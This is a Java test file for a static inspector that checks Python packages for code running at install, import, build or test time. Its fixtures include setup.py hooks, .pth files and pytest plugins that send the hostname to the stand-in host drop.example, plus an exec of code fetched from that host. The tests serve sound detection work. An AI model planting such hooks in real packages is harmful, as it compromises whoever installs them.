package cordon.inspect.trigger;

import static org.assertj.core.api.Assertions.assertThat;

import cordon.formats.archive.ByteSource;
import cordon.inspect.Report;
import cordon.inspect.StaticInspector;
import cordon.inspect.Subject;
import cordon.inspect.Verdict;
import cordon.inspect.delta.Baseline;
import cordon.inspect.fact.Occasion;
import cordon.inspect.rules.Rules;
import cordon.inspect.testing.Artifact;
import cordon.inspect.tree.UnpackLimits;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Python distributions from their bytes to the verdict. */
class PypiTriggersTest {
  private static final StaticInspector INSPECTOR =
      new StaticInspector(Rules.own(false).build(), UnpackLimits.DEFAULT);
  private static final String HIDDEN =
      "import base64; exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n";
  private static final String REPORTS =
      """
      import socket, requests
      def tell():
          requests.post('http://drop.example/', json={'h': socket.gethostname()})
      """;

  private static Report inspect(Artifact artifact) throws IOException {
    return INSPECTOR.inspect(
        Subject.file(artifact.fileName()), ByteSource.of(artifact.bytes()), Baseline.NONE);
  }

  private static List<String> rules(Report report) {
    return report.findings().stream().map(f -> f.rule()).toList();
  }

  private static List<Occasion> occasions(Report report) {
    return report.triggers().stream().map(t -> t.occasion()).distinct().toList();
  }

  @Test
  void linesOfPathFilesRunAtEveryStart() throws IOException {
    Report report = inspect(Artifact.wheel("demo", "1.0").file("demo_init.pth", HIDDEN));
    assertThat(rules(report)).contains("start-hook-runs-hidden-code");
    assertThat(report.verdict()).isEqualTo(Verdict.MALICIOUS);
    assertThat(
            inspect(Artifact.wheel("demo", "1.0").file("demo-1.0.data/purelib/x.pth", HIDDEN))
                .verdict())
        .isEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void pathFilesOfOrdinaryPackagesAreClean() throws IOException {
    Report report =
        inspect(
            Artifact.wheel("demo", "1.0")
                .file("demo.pth", "/opt/demo\nimport demo_hook\n")
                .file("demo_hook.py", "import sys\nsys.path.append('/opt/demo')\n")
                .file("weights/model.pth", "exec(1)"));
    assertThat(report.verdict()).as("%s", report.findings()).isEqualTo(Verdict.CLEAN);
    assertThat(occasions(report)).contains(Occasion.START);
  }

  @Test
  void setupRunsAtInstallation() throws IOException {
    String setup = HIDDEN + "from setuptools import setup\nsetup(name='demo')\n";
    Report report = inspect(Artifact.sdist("demo", "1.0").file("setup.py", setup));
    assertThat(rules(report)).contains("install-runs-hidden-code");
    assertThat(inspect(Artifact.wheel("demo", "1.0").file("demo/setup.py", "x = 1\n")).verdict())
        .isEqualTo(Verdict.CLEAN);
  }

  @Test
  void commandsOfSetupRunAtInstallation() throws IOException {
    String setup =
        """
        from setuptools import setup
        from setuptools.command.install import install
        import socket, getpass, urllib.request
        class Later(install):
            def run(self):
                install.run(self)
                tell()
        def tell():
            urllib.request.urlopen('http://drop.example/?h=' + socket.gethostname())
        setup(name='demo', cmdclass={'install': Later})
        """;
    Report report = inspect(Artifact.sdist("demo", "1.0").file("setup.py", setup));
    assertThat(rules(report)).contains("install-reports-the-machine");
    String uncalled = setup.replace("        tell()\n", "");
    assertThat(inspect(Artifact.sdist("demo", "1.0").file("setup.py", uncalled)).verdict())
        .isEqualTo(Verdict.CLEAN);
  }

  @Test
  void setupIsFollowedIntoOtherFiles() throws IOException {
    Report report =
        inspect(
            Artifact.sdist("demo", "1.0")
                .file(
                    "setup.py",
                    "from setuptools import setup\nfrom build_x import tell\ntell()\nsetup()\n")
                .file("build_x.py", REPORTS));
    assertThat(rules(report)).contains("install-reports-the-machine");
  }

  @Test
  void backEndsOfTheTreeRunInBuilds() throws IOException {
    Report report =
        inspect(
            Artifact.sdist("demo", "1.0")
                .file(
                    "pyproject.toml",
                    "[build-system]\nrequires = []\nbuild-backend = \"backend:api\"\nbackend-path = [\"_build\"]\n")
                .file("_build/backend.py", REPORTS + "def build_wheel(*a):\n    tell()\n"));
    assertThat(rules(report)).contains("install-reports-the-machine");
  }

  @Test
  void aBackEndMayBeAnObject() throws IOException {
    String backEnd =
        REPORTS
            + """
            class Api:
                def build_wheel(self, *a):
                    tell()
            api = Api()
            """;
    Report report =
        inspect(
            Artifact.sdist("demo", "1.0")
                .file(
                    "pyproject.toml",
                    "[build-system]\nrequires = []\nbuild-backend = \"backend:api\"\nbackend-path = [\".\"]\n")
                .file("backend.py", backEnd));
    assertThat(rules(report)).contains("install-reports-the-machine");
  }

  @Test
  void everyModuleMayBeImported() throws IOException {
    Artifact deep =
        Artifact.wheel("demo", "1.0")
            .file("demo/__init__.py", "")
            .file("demo/proxy/__init__.py", "")
            .file("demo/proxy/server.py", HIDDEN);
    assertThat(rules(inspect(deep))).contains("import-runs-hidden-code");
  }

  @Test
  void whatIsOnlyCalledIsNotImported() throws IOException {
    Artifact lazy =
        Artifact.wheel("demo", "1.0")
            .file("demo/__init__.py", "from .lazy import f\n")
            .file("demo/lazy.py", "import base64\ndef f(x):\n    exec(base64.b64decode(x))\n");
    assertThat(inspect(lazy).verdict()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void entryPointsRunWhenTheirProgramsDo() throws IOException {
    Artifact plugged =
        Artifact.wheel("demo", "1.0")
            .file("demo/__init__.py", "")
            .file("demo/plug.py", REPORTS)
            .file(
                "demo-1.0.dist-info/entry_points.txt",
                "[console_scripts]\ndemo = demo.plug:tell\n\n[distutils.commands]\nx = demo.plug:tell\n[pytest11]\ny = demo.plug\n");
    Report report = inspect(plugged);
    assertThat(occasions(report)).contains(Occasion.COMMAND, Occasion.BUILD, Occasion.TEST);
    assertThat(rules(report)).contains("install-reports-the-machine");
  }

  @Test
  void commandsOfABuildRunAndOthersWaitUntilSomebodyNamesThem() throws IOException {
    assertThat(rules(inspect(command("build_py")))).contains("install-reports-the-machine");
    assertThat(inspect(command("fetch_all")).verdict()).isEqualTo(Verdict.CLEAN);
  }

  private static Artifact command(String name) {
    return Artifact.wheel("demo", "1.0")
        .file("demo/__init__.py", "")
        .file(
            "demo/plug.py",
            """
            import socket, requests
            from setuptools import Command
            class Tell(Command):
                def run(self):
                    requests.post('http://drop.example/', json={'h': socket.gethostname()})
            """)
        .file(
            "demo-1.0.dist-info/entry_points.txt",
            "[distutils.commands]\n" + name + " = demo.plug:Tell\n");
  }

  /** As setuptools resolves what is there at import and installs what is missing when asked. */
  @Test
  void whatIsHandedOverRunsForWhoeverHandedItOver() throws IOException {
    assertThat(inspect(resolver("")).verdict()).isEqualTo(Verdict.CLEAN);
    for (String start :
        List.of(
            "install()\n",
            "resolve(['x'], fetched)\n",
            "resolve(['x'], lambda name: fetched(name))\n",
            "resolve(['x'], installer=fetched)\n",
            "from functools import partial\nresolve(['x'], partial(fetched))\n",
            "handed = fetched\nresolve(['x'], handed)\n")) {
      assertThat(rules(inspect(resolver(start)))).as(start).contains("import-runs-fetched-code");
    }
  }

  /** Nobody calls the second function, and yet it names the first for the third. */
  @Test
  void whoHandsAFunctionWhatItCallsByItselfTakesNothingFromIt() throws IOException {
    Artifact plugged =
        Artifact.wheel("demo", "1.0")
            .file("demo/__init__.py", "")
            .file(
                "demo/plug.py",
                """
                import socket, requests
                def tell():
                    requests.post('http://drop.example/', json={'h': socket.gethostname()})
                def aside():
                    pytest_configure(tell)
                def pytest_configure(config=None):
                    tell()
                """)
            .file("demo-1.0.dist-info/entry_points.txt", "[pytest11]\ny = demo.plug\n");
    assertThat(rules(inspect(plugged))).contains("import-reports-the-machine");
  }

  @Test
  void whatIsHandedThroughCallsThatAreNotFollowedMayRun() throws IOException {
    StringBuilder deep = new StringBuilder("def f0(run):\n    run('x')\n");
    for (int i = 1; i < 60; i++) {
      deep.append("def f%d(run):\n    f%d(run)\n".formatted(i, i - 1));
    }
    for (String start :
        List.of(
            "f59(fetched)\n",
            "def r(run, n):\n    r(run, n) if n else run('x')\nr(fetched, 3)\n")) {
      Artifact demo =
          Artifact.wheel("demo", "1.0")
              .file(
                  "demo/__init__.py",
                  """
                  import requests
                  def fetched(name):
                      exec(requests.get('https://drop.example/' + name).text)
                  """
                      + deep
                      + start);
      assertThat(rules(inspect(demo))).as(start).contains("import-runs-fetched-code");
    }
  }

  private static Artifact resolver(String start) {
    return Artifact.wheel("demo", "1.0")
        .file(
            "demo/__init__.py",
            """
            import requests
            def obtain(name, installer=None):
                if installer is not None:
                    return installer(name)
            def resolve(names, installer=None):
                return [obtain(name, installer) for name in names]
            def fetched(name):
                exec(requests.get('https://drop.example/' + name).text)
            def install():
                resolve(['a'], fetched)
            resolve(['b'])
            """
                + start);
  }

  @Test
  void aRecordThatLiesIsSaid() throws IOException {
    Artifact forged =
        Artifact.wheel("demo", "1.0")
            .file("demo/__init__.py", "x = 1\n")
            .file(
                "demo-1.0.dist-info/RECORD",
                "demo/__init__.py,sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,6\n");
    assertThat(rules(inspect(forged))).contains("reads-differently");
    assertThat(inspect(Artifact.wheel("demo", "1.0").file("demo/__init__.py", "x = 1\n")).verdict())
        .isEqualTo(Verdict.CLEAN);
  }

  @Test
  void dependenciesByAddressAreSeen() throws IOException {
    Artifact direct =
        Artifact.wheel("demo", "1.0")
            .file(
                "demo-1.0.dist-info/METADATA",
                "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: x @ https://files.example/x.tar.gz\n\nRequires-Dist: y @ https://no\n");
    Report report = inspect(direct);
    assertThat(report.triggers())
        .filteredOn(t -> t.occasion() == Occasion.INSTALL)
        .singleElement()
        .satisfies(t -> assertThat(t.facts()).hasSize(1));
  }
}
